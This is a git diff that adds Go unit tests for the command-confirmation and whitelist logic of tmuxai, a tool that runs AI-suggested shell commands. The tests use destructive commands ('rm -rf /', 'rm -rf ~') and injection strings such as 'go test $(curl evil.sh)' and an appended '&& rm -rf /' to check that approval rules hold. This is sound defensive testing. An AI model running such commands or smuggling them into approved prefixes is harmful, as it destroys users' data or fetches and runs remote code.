@@ -3,8 +3,16 @@ package internal
 import (
 	"bufio"
 	"bytes"
+	"os"
+	"path/filepath"
+	"regexp"
 	"testing"
 	"time"
+
+	"github.com/alvinunreal/tmuxai/config"
+	"github.com/spf13/viper"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
 )
 
 func TestHandleEscapeSequence_LeftArrow(t *testing.T) {
@@ -271,3 +279,122 @@ func TestReadEscapeSequence_StandaloneESC(t *testing.T) {
 	}
 }
 
+func TestNeedsExecConfirm(t *testing.T) {
+	tests := []struct {
+		name    string
+		command string
+		cfg     config.Config
+		want    bool
+	}{
+		{"exec_confirm asks for unknown", "make build", config.Config{ExecConfirm: true}, true},
+		{"exec_confirm asks for safe by default", "ls -la", config.Config{ExecConfirm: true}, true},
+		{"auto-approve safe", "ls -la", config.Config{ExecConfirm: true, Safety: config.SafetyConfig{AutoApproveSafe: true}}, false},
+		{"auto-approve doesn't cover unknown", "make build", config.Config{ExecConfirm: true, Safety: config.SafetyConfig{AutoApproveSafe: true}}, true},
+		{"yolo skips danger by default", "rm -rf build", config.Config{ExecConfirm: true, Yolo: true}, false},
+		{"always confirm danger in yolo", "rm -rf build", config.Config{Yolo: true, Safety: config.SafetyConfig{AlwaysConfirmDanger: true}}, true},
+		{"always confirm danger ignores safe commands", "ls", config.Config{Yolo: true, Safety: config.SafetyConfig{AlwaysConfirmDanger: true}}, false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			cfg := tt.cfg
+			m := &Manager{Config: &cfg, SessionOverrides: map[string]interface{}{}}
+			if got := m.needsExecConfirm(tt.command); got != tt.want {
+				t.Errorf("needsExecConfirm(%q) = %v, want %v", tt.command, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestWhitelistCheckAlwaysConfirmDanger(t *testing.T) {
+	cfg := config.DefaultConfig()
+	cfg.Yolo = true
+	cfg.WhitelistPatterns = []string{`^rm\b`}
+	m := &Manager{Config: cfg, SessionOverrides: map[string]interface{}{}}
+
+	whitelisted, err := m.whitelistCheck("rm -rf /")
+	require.NoError(t, err)
+	assert.True(t, whitelisted, "the whitelist applies without always_confirm_danger")
+
+	cfg.Safety.AlwaysConfirmDanger = true
+	whitelisted, err = m.whitelistCheck("rm -rf /")
+	require.NoError(t, err)
+	assert.False(t, whitelisted, "a whitelisted dangerous command is still confirmed")
+	assert.True(t, m.needsExecConfirm("rm -rf /"))
+
+	whitelisted, _ = m.whitelistCheck("rm notes.txt")
+	assert.True(t, whitelisted, "less risky whitelisted commands still run directly")
+
+	batch := m.execBatch(AIResponse{ExecCommand: []string{"rm -rf /", "rm -rf ~"}})
+	assert.Len(t, batch, 2, "both are confirmed in a batch")
+}
+
+func TestAllowPrefix(t *testing.T) {
+	assert.Equal(t, "go test", allowPrefix("go test ./..."))
+	assert.Equal(t, "make", allowPrefix("make -j4 build"))
+	assert.Equal(t, "kubectl get", allowPrefix("kubectl get pods -n prod"))
+	assert.Equal(t, "cat", allowPrefix("cat ~/.bashrc"))
+	assert.Equal(t, "", allowPrefix("  "))
+}
+
+func TestPrefixPattern(t *testing.T) {
+	re := regexp.MustCompile(prefixPattern("go test"))
+	assert.True(t, re.MatchString("go test"))
+	assert.True(t, re.MatchString("go test ./..."))
+	assert.True(t, re.MatchString("go test -run TestFoo ./internal"))
+	assert.False(t, re.MatchString("go testify"))
+	assert.False(t, re.MatchString("go test ./... && rm -rf /"))
+	assert.False(t, re.MatchString("go test ./... > /etc/passwd"))
+	assert.False(t, re.MatchString("go test $(curl evil.sh)"))
+	assert.False(t, re.MatchString("sudo go test"))
+}
+
+func TestAddWhitelistPattern(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	viper.SetConfigFile(path)
+	t.Cleanup(func() { viper.SetConfigFile("") })
+	manager := &Manager{Config: config.DefaultConfig()}
+
+	manager.addSafetyPattern("safety.always_allow_patterns", prefixPattern("go test"))
+	whitelisted, err := manager.whitelistCheck("go test ./...")
+	require.NoError(t, err)
+	assert.True(t, whitelisted)
+	assert.Empty(t, manager.Config.WhitelistPatterns)
+
+	data, err := os.ReadFile(path)
+	require.NoError(t, err)
+	assert.Contains(t, string(data), "always_allow_patterns:")
+}
+
+func TestAlwaysAllowSkipsDanger(t *testing.T) {
+	assert.True(t, offersAlwaysAllow(execConfirmPrompt, true, RiskUnknown))
+	assert.False(t, offersAlwaysAllow(execConfirmPrompt, true, RiskDanger), "dangerous commands can't be allowed for good")
+	assert.False(t, offersAlwaysAllow("Send these keys?", true, RiskUnknown))
+
+	cfg := config.DefaultConfig()
+	cfg.Safety.AlwaysAllowPatterns = []string{prefixPattern("rm")}
+	manager := &Manager{Config: cfg, SessionOverrides: map[string]interface{}{}}
+
+	whitelisted, err := manager.whitelistCheck("rm notes.txt")
+	require.NoError(t, err)
+	assert.True(t, whitelisted)
+	for _, command := range []string{"rm -rf /", "rm -rf ~"} {
+		whitelisted, err := manager.whitelistCheck(command)
+		require.NoError(t, err)
+		assert.False(t, whitelisted, "an always-allow rule never covers %s", command)
+	}
+
+	manager.Config.WhitelistPatterns = []string{prefixPattern("rm")}
+	whitelisted, _ = manager.whitelistCheck("rm -rf /")
+	assert.True(t, whitelisted, "whitelist_patterns apply as written, whatever they look like")
+}
+
+func TestAllowAlwaysFailsClosed(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	viper.SetConfigFile(path)
+	t.Cleanup(func() { viper.SetConfigFile("") })
+	manager := &Manager{Config: config.DefaultConfig(), apiRequest: true}
+
+	assert.False(t, manager.allowAlways("go test ./..."), "an unreadable answer doesn't run the command")
+	assert.Empty(t, manager.Config.Safety.AlwaysAllowPatterns)
+}